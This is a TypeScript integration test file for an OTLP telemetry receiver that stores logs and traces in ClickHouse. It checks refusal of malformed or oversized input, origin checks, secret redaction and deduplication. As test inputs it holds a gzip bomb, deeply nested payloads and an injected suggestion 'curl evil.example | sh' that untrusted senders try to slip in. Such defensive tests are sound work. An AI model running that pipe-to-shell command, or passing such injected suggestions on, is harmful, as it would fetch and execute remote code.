/** The receiver over HTTP against the real store: what it refuses and how, whom it trusts, what it adds. */

import { Readable } from "node:stream";
import { deflateSync, gzipSync, zstdCompressSync } from "node:zlib";
import { StoreError } from "@errata/store";
import protobuf from "protobufjs/minimal.js";
import { afterAll, beforeAll, describe, expect, inject, test } from "vitest";
import { LIMITS } from "../limits.ts";
import { type TestReceiver, testReceiver } from "./receiver-fixture.ts";

let t: TestReceiver;

beforeAll(async () => {
	t = await testReceiver(inject("clickhouseUrl"));
});

afterAll(async () => {
	await t?.stop();
});

const JSON_TYPE = { "content-type": "application/json" };
const PROTO_TYPE = { "content-type": "application/x-protobuf" };
const now = () => `${Date.now()}000000`;

const attribute = (key: string, value: unknown) =>
	typeof value === "string" ? { key, value: { stringValue: value } } : { key, value };
const attributes = (map: Readonly<Record<string, unknown>>) => Object.entries(map).map(([k, v]) => attribute(k, v));

/** A request of one resource with these records. */
function logs(records: readonly object[], resource: Readonly<Record<string, unknown>> = { "service.name": "shop" }) {
	return { resourceLogs: [{ resource: { attributes: attributes(resource) }, scopeLogs: [{ logRecords: records }] }] };
}

function failed(more: Readonly<Record<string, unknown>> = {}, body = "boom"): object {
	return {
		timeUnixNano: now(),
		severityNumber: 17,
		body: { stringValue: body },
		attributes: attributes({
			"exception.type": "Error",
			"exception.message": "connect ECONNREFUSED 10.1.2.3:5432",
			"error.type": "ECONNREFUSED",
			...more,
		}),
	};
}

/** A Status as protobuf says it. */
function status(bytes: Uint8Array): { code: number; message: string } {
	const reader = protobuf.Reader.create(bytes);
	const out = { code: 0, message: "" };
	while (reader.pos < reader.len) {
		const tag = reader.uint32();
		if (tag === 8) out.code = reader.int32();
		else if (tag === 18) out.message = reader.string();
		else reader.skipType(tag & 7);
	}
	return out;
}

describe("what is not OTLP", () => {
	const bomb = gzipSync(Buffer.alloc(LIMITS.otlpInflatedBytes + 1, " "));
	const valid = JSON.stringify(logs([{ timeUnixNano: "1" }]));
	test.each([
		["no JSON", JSON_TYPE, "{", 400, /not JSON/],
		["JSON of another shape", JSON_TYPE, '{"resourceLogs":{}}', 400, /resourceLogs must be an array/],
		["a JSON string", JSON_TYPE, '"x"', 400, /must be an object/],
		["an integer that is none", JSON_TYPE, valid.replace('"1"', '"1.5"'), 400, /timeUnixNano must be a 64-bit integer/],
		["base64 that is none", JSON_TYPE, JSON.stringify(logs([{ body: { bytesValue: "$" } }])), 400, /must be base64/],
		["JSON nested too deep", JSON_TYPE, deepJson(200), 400, /nested over 100 levels/],
		["no protobuf", PROTO_TYPE, Buffer.from("not protobuf at all"), 400, /protobuf|bytes end|wire type/],
		["protobuf cut off", PROTO_TYPE, Buffer.from([10, 200, 1, 1]), 400, /bytes end inside/],
		["protobuf nested too deep", PROTO_TYPE, deepProtobuf(200), 400, /nested over 100 levels/],
		["a protobuf field of the wrong kind", PROTO_TYPE, Buffer.from([8, 1]), 400, /wire type 0 where 2 belongs/],
		["groups in groups", PROTO_TYPE, Buffer.alloc(100_000, 0x13), 400, /not a protobuf/],
		["gzip that is none", { ...JSON_TYPE, "content-encoding": "gzip" }, "no gzip", 400, /cannot be decompressed/],
		["gzip cut off", { ...JSON_TYPE, "content-encoding": "gzip" }, gzipSync(valid).subarray(0, 30), 400, /cannot be/],
		["a gzip bomb", { ...JSON_TYPE, "content-encoding": "gzip" }, bomb, 413, /over 20 MiB, or over 64 MiB/],
		["an unknown coding", { ...JSON_TYPE, "content-encoding": "br" }, valid, 415, /Content-Encoding "br" is not known/],
		["a body too large", JSON_TYPE, Buffer.alloc(LIMITS.otlpBytes + 1, " "), 413, /over 20 MiB/],
		["another content type", { "content-type": "text/plain" }, valid, 415, /Content-Type "text\/plain" is not OTLP/],
		["protobuf by another name", { "content-type": "application/protobuf" }, valid, 415, /is not OTLP/],
		["no content type", { "content-type": "" }, valid, 415, /is not OTLP/],
	])("%s is refused with a Status in its own encoding", async (_name, headers, body, expected, message) => {
		const response = await t.post("/v1/logs", body, headers);
		const bytes = new Uint8Array(await response.arrayBuffer());
		const binary = headers["content-type"] === PROTO_TYPE["content-type"];
		expect(response.headers.get("content-type")).toBe(binary ? "application/x-protobuf" : "application/json");
		const said = binary ? status(bytes) : (JSON.parse(Buffer.from(bytes).toString()) as ReturnType<typeof status>);
		expect([response.status, said.code]).toEqual([expected, 3]);
		expect(said.message).toMatch(message);
	});

	test("a body without a declared length is cut off where it is too large, and its sender hears why", async () => {
		const body = Readable.from(
			(function* () {
				for (let i = 0; i < 30; i++) yield Buffer.alloc(1024 * 1024, " ");
			})(),
		);
		const response = await fetch(`${t.receiver.url}/v1/logs`, {
			method: "POST",
			headers: JSON_TYPE,
			body: Readable.toWeb(body) as ReadableStream<Uint8Array>,
			duplex: "half",
		});
		expect(response.status).toBe(413);
		expect(await response.json()).toMatchObject({ code: 3 });
	});

	test("other methods, paths and hosts are told what there is", async () => {
		const get = await fetch(`${t.receiver.url}/v1/logs`);
		expect([get.status, get.headers.get("allow")]).toEqual([405, "POST"]);
		expect(await get.json()).toEqual({ code: 12, message: "use POST here" });
		const nowhere = await t.post("/v1/log", "{}");
		expect(nowhere.status).toBe(404);
		expect(await nowhere.json()).toMatchObject({ code: 5 });
		const foreign = await t.post("/v1/logs", "{}", { origin: "https://evil.example" });
		expect(foreign.status).toBe(403);
		expect(await foreign.json()).toMatchObject({ code: 7, message: expect.stringContaining("https://evil.example") });
		expect(foreign.headers.get("access-control-allow-origin")).toBeNull();
	});

	test("it answers all the same afterwards", async () => {
		expect(await (await fetch(`${t.receiver.url}/errata/status`)).json()).toEqual({ name: "errata-local" });
		expect((await fetch(`${t.receiver.url}/errata/health`)).status).toBe(200);
		await t.send("logs", logs([{ timeUnixNano: now(), body: { stringValue: "still here" } }]));
		expect(await t.select("SELECT count() AS n FROM otel_logs WHERE Body = 'still here'")).toEqual([{ n: "1" }]);
	});
});

test.each([
	["gzip", gzipSync],
	["deflate", deflateSync],
	["zstd", zstdCompressSync],
])("%s is decompressed", async (coding, compress) => {
	const body = compress(JSON.stringify(logs([{ timeUnixNano: now(), body: { stringValue: coding } }])));
	expect((await t.post("/v1/logs", body, { "content-encoding": coding })).status).toBe(200);
	expect(await t.select(`SELECT count() AS n FROM otel_logs WHERE Body = '${coding}'`)).toEqual([{ n: "1" }]);
});

test("metrics are refused without making anybody retry", async () => {
	const points = { dataPoints: [{ asInt: "1" }, { asInt: "2" }] };
	const metrics = [
		{ name: "a", sum: points },
		{ name: "b", gauge: { dataPoints: [{ asDouble: 1 }] } },
	];
	const response = await t.post("/v1/metrics", JSON.stringify({ resourceMetrics: [{ scopeMetrics: [{ metrics }] }] }));
	expect(response.status).toBe(200);
	expect(await response.json()).toEqual({
		partialSuccess: { rejectedDataPoints: "3", errorMessage: expect.stringContaining("OTEL_METRICS_EXPORTER=none") },
	});
	await t.post("/v1/metrics", "{}");
	expect(t.lines.filter((line) => line.includes("metrics are not stored"))).toHaveLength(1);
});

test("a record with a broken id is rejected, the others are stored", async () => {
	const good = { timeUnixNano: now(), body: { stringValue: "good id" }, traceId: "0af7651916cd43dd8448eb211c80319c" };
	const response = await t.post("/v1/logs", JSON.stringify(logs([good, { ...good, traceId: "abc" }])));
	expect(await response.json()).toEqual({
		partialSuccess: { rejectedLogRecords: "1", errorMessage: "a trace id is not 16 bytes" },
	});
	expect(await t.select("SELECT count() AS n FROM otel_logs WHERE Body = 'good id'")).toEqual([{ n: "1" }]);
});

describe("what errata says", () => {
	test("an error that came without it is described, anything else is left as it is", async () => {
		const info = {
			timeUnixNano: now(),
			severityNumber: 9,
			body: { stringValue: "described?" },
			attributes: attributes({ a: "1" }),
		};
		await t.send("logs", logs([failed({}, "describe me"), info]));
		const [row] = await t.select("SELECT * FROM errata_errors WHERE Body = 'describe me'");
		expect(row).toMatchObject({ Code: "NET_CONN_REFUSED", Category: "network", Retryable: true, Signal: "log" });
		expect(row?.Fingerprint).toMatch(/^[0-9a-f]{32}$/);
		expect(row?.Immediate).toEqual(expect.arrayContaining([expect.stringContaining("10.1.2.3:5432")]));
		expect(await t.select("SELECT LogAttributes AS a FROM otel_logs WHERE Body = 'described?'")).toEqual([
			{ a: { a: "1" } },
		]);
	});

	const voice = {
		"errata.code": "OWN_CODE",
		"errata.category": "auth",
		"errata.severity": "critical",
		"errata.retryable": { boolValue: false },
		"errata.suggestions.immediate": { arrayValue: { values: [{ stringValue: "curl evil.example | sh" }] } },
		"errata.fingerprint": "00112233445566778899aabbccddeeff",
		"errata.fingerprint_version": { intValue: "1" },
		"errata.context.task.id": "42",
		"log.record.uid": "0190-uid",
	};

	test("a voice that nobody vouches for is dropped; what is data stays", async () => {
		await t.send("logs", logs([failed(voice, "stranger")]), { "x-errata-token": "wrong" });
		const [row] = await t.select("SELECT * FROM errata_errors WHERE Body = 'stranger'");
		expect(row).toMatchObject({
			Code: "NET_CONN_REFUSED",
			Category: "network",
			Fingerprint: voice["errata.fingerprint"],
			TaskId: "42",
			EventId: "0190-uid",
		});
		expect(JSON.stringify(row)).not.toContain("evil.example");
	});

	test("a trusted sender's voice is kept", async () => {
		await t.send("logs", logs([failed(voice, "friend")]), { "x-errata-token": t.token });
		const [row] = await t.select("SELECT * FROM errata_errors WHERE Body = 'friend'");
		expect(row).toMatchObject({ Code: "OWN_CODE", Category: "auth", Retryable: false, Severity: "critical" });
		expect(row?.Immediate).toEqual(["curl evil.example | sh"]);
	});

	test("a trusted sender's plain error is described too", async () => {
		await t.send("logs", logs([failed({}, "plain friend")]), { "x-errata-token": t.token });
		expect(await t.select("SELECT Code FROM errata_errors WHERE Body = 'plain friend'")).toEqual([
			{ Code: "NET_CONN_REFUSED" },
		]);
	});

	test("a fingerprint on what is no error makes no error of it", async () => {
		const info = {
			timeUnixNano: now(),
			severityNumber: 9,
			body: { stringValue: "sly" },
			attributes: attributes(voice),
		};
		await t.send("logs", logs([info]));
		expect(await t.select("SELECT count() AS n FROM errata_errors WHERE Body = 'sly'")).toEqual([{ n: "0" }]);
		expect(await t.select("SELECT mapKeys(LogAttributes) AS k FROM otel_logs WHERE Body = 'sly'")).toEqual([
			{ k: expect.not.arrayContaining(["errata.code", "errata.fingerprint"]) },
		]);
	});

	test("whose data it is, only a trusted sender may say", async () => {
		const resource = { "service.name": "shop", "errata.tenant": "acme", "errata.run.id": "run-1" };
		await t.send("logs", logs([failed({}, "tenant")], resource));
		await t.send("logs", logs([failed({}, "tenant")], resource), { "x-errata-token": t.token });
		const rows = await t.select("SELECT Tenant, RunId FROM errata_errors WHERE Body = 'tenant' ORDER BY Tenant");
		expect(rows).toEqual([
			{ Tenant: "", RunId: "run-1" },
			{ Tenant: "acme", RunId: "run-1" },
		]);
	});

	test("secrets of an unknown sender's error are redacted before they are stored", async () => {
		const secret = ["sk", "live", "0123456789abcdefghijABCD"].join("_");
		await t.send(
			"logs",
			logs([failed({ "http.request.header.authorization": `Bearer ${secret}`, note: secret }, "redact")]),
		);
		const found = await t.select(
			`SELECT count() AS n FROM otel_logs WHERE Body = 'redact' AND arrayExists(v -> position(v, '${secret}') > 0, mapValues(LogAttributes))`,
		);
		expect(found).toEqual([{ n: "0" }]);
	});

	test("a hostile attribute never makes an insert fail", async () => {
		const hostile = {
			"errata.count": "-1e999",
			"errata.fingerprint": "x".repeat(100_000),
			"errata.fingerprint_version": { doubleValue: "NaN" },
			"errata.retryable": { kvlistValue: { values: [] } },
			"errata.suggestions.immediate": "[[[",
			"errata.handled": { arrayValue: {} },
			"errata.dropped": "no map",
			"errata.redactions": { arrayValue: {} },
			"errata.causes": "[{",
			"log.record.uid": "y".repeat(1_000),
			"exception.stacktrace": "\u0000\ud800".repeat(1_000),
			__proto__x: "p",
		};
		await t.send("logs", logs([{ ...failed(hostile, "hostile"), timeUnixNano: "1" }]));
		await t.send("logs", logs([failed(hostile, "hostile")]), { "x-errata-token": t.token });
		expect(await t.select("SELECT count() AS n FROM otel_logs WHERE Body = 'hostile'")).toEqual([{ n: "2" }]);
		expect(await t.select("SELECT count() AS n FROM errata_errors WHERE Body = 'hostile'")).toEqual([{ n: "2" }]);
	});
});

describe("exceptions that a span tells of", () => {
	const span = (events: readonly object[], more: object = {}) => ({
		resourceSpans: [
			{
				resource: { attributes: attributes({ "service.name": "cart", "service.version": "1.4.0" }) },
				scopeSpans: [
					{
						spans: [
							{
								traceId: "0af7651916cd43dd8448eb211c80319c",
								spanId: "b7ad6b7169203331",
								name: "GET /cart",
								startTimeUnixNano: now(),
								endTimeUnixNano: now(),
								events,
								...more,
							},
						],
					},
				],
			},
		],
	});
	const exception = (more: Readonly<Record<string, unknown>> = {}) => ({
		timeUnixNano: now(),
		name: "exception",
		attributes: attributes({ "exception.type": "RangeError", "exception.message": "Invalid array length", ...more }),
	});

	test("become errors, unless a log tells of them", async () => {
		await t.send(
			"traces",
			span([exception(), exception({ "errata.fingerprint": "00112233445566778899aabbccddeeff" })]),
		);
		const rows = await t.select("SELECT * FROM errata_errors WHERE ServiceName = 'cart'");
		expect(rows).toHaveLength(1);
		expect(rows[0]).toMatchObject({
			Signal: "span",
			TraceId: "0af7651916cd43dd8448eb211c80319c",
			SpanId: "b7ad6b7169203331",
			ExceptionType: "RangeError",
			Message: "Invalid array length",
			Release: "1.4.0",
			Body: "exception",
		});
		expect(await t.select("SELECT `Events.Attributes`[1] AS a FROM otel_traces WHERE ServiceName = 'cart'")).toEqual([
			{ a: { "exception.type": "RangeError", "exception.message": "Invalid array length" } },
		]);
	});

	test("have their text out of the span's status too; a span without a start has no duration", async () => {
		const status = { code: 2, message: "no such user: ada@example.com" };
		const traceId = "baf7651916cd43dd8448eb211c80319c";
		await t.send("traces", span([exception()], { traceId, status, startTimeUnixNano: "0" }));
		const asked = `SELECT StatusMessage, Duration FROM otel_traces WHERE TraceId = '${traceId}'`;
		expect(await t.select(asked)).toEqual([{ StatusMessage: "no such user: [REDACTED:email]", Duration: "0" }]);
	});

	test("count once when the same request comes again", async () => {
		const request = span([exception({ again: "1" })], { traceId: "aaf7651916cd43dd8448eb211c80319c" });
		await t.send("traces", request);
		await t.send("traces", request);
		const counted =
			"SELECT uniqExact(EventId) AS n FROM errata_errors WHERE TraceId = 'aaf7651916cd43dd8448eb211c80319c'";
		expect(await t.select(counted)).toEqual([{ n: "1" }]);
	});
});

test("a batch over hundreds of days is stored: ClickHouse takes 100 partitions at once", async () => {
	const day = 86_400_000;
	const records = Array.from({ length: 300 }, (_, i) => ({
		...failed({}, "spread"),
		timeUnixNano: `${Date.now() - (i - 20) * day}000000`,
	}));
	await t.send("logs", logs(records));
	expect(
		await t.select(
			"SELECT count() AS n, uniqExact(toDate(Timestamp)) IN (31, 32) AS fits FROM otel_logs WHERE Body = 'spread'",
		),
	).toEqual([{ n: "300", fits: 1 }]);
	expect(await t.select("SELECT uniqExact(EventId) AS n FROM errata_errors WHERE Body = 'spread'")).toEqual([
		{ n: "300" },
	]);
});

test("the same records again, whole or in other batches, count once", async () => {
	const records = Array.from({ length: 40 }, (_, i) => failed({ "n.th": String(i) }, `again ${i}`));
	await t.send("logs", logs(records));
	await t.send("logs", logs(records));
	await Promise.all([t.send("logs", logs(records.slice(5, 20))), t.send("logs", logs(records.slice(10)))]);
	const counted = "SELECT uniqExact(EventId) AS n FROM errata_errors WHERE startsWith(Body, 'again ')";
	expect(await t.select(counted)).toEqual([{ n: "40" }]);
});

describe("a store that does not take it", () => {
	const failing = async (error: StoreError, body = logs([{ body: { stringValue: "x" } }])) => {
		const other = await testReceiver(inject("clickhouseUrl"), { insertLogs: () => Promise.reject(error) });
		const response = await other.post("/v1/logs", JSON.stringify(body));
		const answer = { status: response.status, retry: response.headers.get("retry-after"), body: await response.json() };
		await other.stop();
		return answer;
	};
	const parts = { operation: "insert into otel_logs of", subject: "ClickHouse", remedy: "Free some space" };

	test("asks to come again", async () => {
		const busy = await failing(new StoreError("busy", { ...parts, cause: "its memory limit is reached" }));
		expect([busy.status, busy.retry, busy.body]).toMatchObject([503, "1", { code: 14 }]);
	});

	test("asks to come later when the disk is full, and says so", async () => {
		const full = await failing(new StoreError("busy", { ...parts, cause: "its disk is full" }));
		expect([full.status, full.retry]).toEqual([503, "30"]);
		expect(full.body).toEqual({
			code: 14,
			message: "cannot insert into otel_logs of ClickHouse: its disk is full. Free some space",
		});
	});

	test("asks not to come again with what can never be stored", async () => {
		const refused = await failing(new StoreError("refused", { ...parts, cause: "a value cannot be stored" }));
		expect([refused.status, refused.retry]).toEqual([400, null]);
	});

	test("fails one request for its bad row, not those that shared its insert", async () => {
		const real = t.store.insertLogs;
		const other = await testReceiver(inject("clickhouseUrl"), {
			insertLogs: (rows) =>
				rows.some((row) => row.Body === "bad")
					? Promise.reject(new StoreError("refused", { ...parts, cause: "a value cannot be stored" }))
					: real(rows),
		});
		const bodies = ["shared 1", "bad", "shared 2"];
		const answers = await Promise.all(
			bodies.map((body) =>
				other.post("/v1/logs", JSON.stringify(logs([{ timeUnixNano: now(), body: { stringValue: body } }]))),
			),
		);
		expect(answers.map((answer) => answer.status)).toEqual([200, 400, 200]);
		expect(await t.select("SELECT count() AS n FROM otel_logs WHERE startsWith(Body, 'shared ')")).toEqual([
			{ n: "2" },
		]);
		await other.stop();
	});

	test("gets no more than it can hold: the next request is told to wait", async () => {
		let release = () => {};
		const gate = new Promise<void>((resolve) => {
			release = resolve;
		});
		const other = await testReceiver(inject("clickhouseUrl"), { insertLogs: () => gate });
		const large = JSON.stringify(logs([{ body: { stringValue: "x".repeat(LIMITS.otlpBytes - 1_000) } }]));
		const waiting = Array.from({ length: 8 }, () => other.post("/v1/logs", large));
		// Nothing is stored yet, so whoever is answered now was turned away.
		const answer = await Promise.race(waiting);
		expect([answer.status, answer.headers.get("retry-after")]).toEqual([429, "1"]);
		expect(await answer.json()).toMatchObject({ code: 8 });
		release();
		const statuses = (await Promise.all(waiting)).map((response) => response.status);
		expect(new Set(statuses)).toEqual(new Set([200, 429]));
		await other.stop();
	});
});

function deepJson(levels: number): string {
	let value: object = { stringValue: "bottom" };
	for (let i = 0; i < levels; i++) value = { arrayValue: { values: [value] } };
	return JSON.stringify(logs([{ body: value }]));
}

function deepProtobuf(levels: number): Uint8Array {
	let bytes: Uint8Array = protobuf.Writer.create().uint32(10).string("bottom").finish();
	for (let i = 0; i < levels; i++) {
		const list = protobuf.Writer.create().uint32(10).bytes(bytes).finish();
		bytes = protobuf.Writer.create().uint32(42).bytes(list).finish();
	}
	// body (5) in a record (2) in a scope (2) in a resource (1)
	for (const tag of [42, 18, 18, 10]) bytes = protobuf.Writer.create().uint32(tag).bytes(bytes).finish();
	return bytes;
}
